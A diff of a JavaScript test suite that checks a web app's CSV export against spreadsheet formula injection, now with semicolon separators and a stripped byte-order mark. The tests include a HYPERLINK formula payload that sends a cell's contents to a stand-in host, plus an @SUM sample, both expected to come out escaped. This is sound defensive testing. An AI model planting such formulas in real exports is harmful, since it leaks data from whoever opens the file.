@@ -138,19 +138,22 @@ describe('small defences: CSV formulas, photo metadata, card page rate limits, p
           .get(`/indicators/export.csv?${period}&groupBy=${groupBy}`)
           .expect(200);
         expect(csv.headers['content-type']).toContain('text/csv');
-        return csv.text.trim().split('\n');
+        return csv.text
+          .replace(/^\uFEFF/, '')
+          .trim()
+          .split('\n');
       };
 
       const byStructure = await export_('structure');
       const formulaRows = byStructure.filter((line) => line.includes('HYPERLINK'));
       expect(formulaRows.length).toBeGreaterThan(0);
-      for (const line of formulaRows) expect(line).toContain(`,"'=HYPERLINK(""http://x/?""&A1)",`);
+      for (const line of formulaRows) expect(line).toContain(`;"'=HYPERLINK(""http://x/?""&A1)";`);
       // The figures are numbers, not guarded text: one person followed, no introduction yet.
-      expect(formulaRows.find((line) => line.includes(',introductions_per_person,'))).toMatch(/,0,1,0(,|$)/);
+      expect(formulaRows.find((line) => line.includes(';introductions_per_person;'))).toMatch(/;0;1;0(;|$)/);
       const byCoach = await export_('coach');
-      expect(byCoach.some((line) => line.includes(`,'@SUM(1),`))).toBe(true);
+      expect(byCoach.some((line) => line.includes(`;'@SUM(1);`))).toBe(true);
       // No cell of either export starts a formula.
-      for (const line of [...byStructure, ...byCoach]) expect(line).not.toMatch(/(^|,)"?[=+@-]/);
+      for (const line of [...byStructure, ...byCoach]) expect(line).not.toMatch(/(^|;)"?[=+@-]/);
     });
   });
 
